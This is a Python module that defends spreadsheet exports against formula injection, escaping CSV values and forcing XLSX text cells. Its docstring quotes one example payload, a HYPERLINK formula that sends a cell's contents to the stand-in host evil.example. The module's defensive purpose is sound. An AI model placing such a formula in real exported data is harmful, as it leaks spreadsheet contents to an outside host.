"""Cell values for the files people open in spreadsheet programs: text always stays text.

Excel, LibreOffice and WPS take a CSV value that starts with ``= + - @`` (or a tab or a
carriage return) for a formula, so a company named ``=HYPERLINK("http://evil.example/?"&A1)``
would run as one on the officer's machine. In XLSX, openpyxl itself writes a text that
starts with ``=`` as a formula and refuses control characters. Every export (CSV and XLSX,
registry, reports, error files, any later one) writes its values through this module:

- CSV: such a text gets a leading apostrophe, which spreadsheet programs show as the start
  of a text; numbers written as text (``-1200.5``) are left as they are. The enterprise import
  takes such an apostrophe off again, so an export reads back unchanged.
- XLSX: a text is written as a text cell, never as a formula, without the characters the
  format cannot hold.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl is imported by what writes a workbook, not by every process
    from openpyxl.styles import Font

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(?:\.\d*)?(?:[eE][-+]?\d+)?")
# The control characters XLSX cannot hold: openpyxl's ILLEGAL_CHARACTERS_RE, written here so
# that this module does not import openpyxl (tests/core check the two agree).
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def csv_text(value: Any) -> Any:
    """``value`` as it is safe to write in a CSV file."""
    if value.__class__ is str and value[:1] in FORMULA_START and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(value) for value in values]


def xlsx_cell(sheet: Any, value: Any, *, font: Font | None = None) -> Any:
    """``value`` for ``sheet.append`` (either openpyxl mode): a text becomes a text cell
    when it could be read as a formula or holds characters XLSX cannot; other values pass
    as they are, so a plain row costs no more than before."""
    if value.__class__ is str and (
        value[:1] == "=" or ILLEGAL_CHARACTERS_RE.search(value) is not None or font is not None
    ):
        cell = _write_only_cell(sheet, ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"  # never a formula, whatever the text starts with
        if font is not None:
            cell.font = font
        return cell
    if font is not None:
        cell = _write_only_cell(sheet, value)
        cell.font = font
        return cell
    return value


def _write_only_cell(sheet: Any, value: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell  # loaded already by whoever made ``sheet``

    return WriteOnlyCell(sheet, value=value)


def xlsx_row(sheet: Any, values: Sequence[Any], *, font: Font | None = None) -> list[Any]:
    return [xlsx_cell(sheet, value, font=font) for value in values]
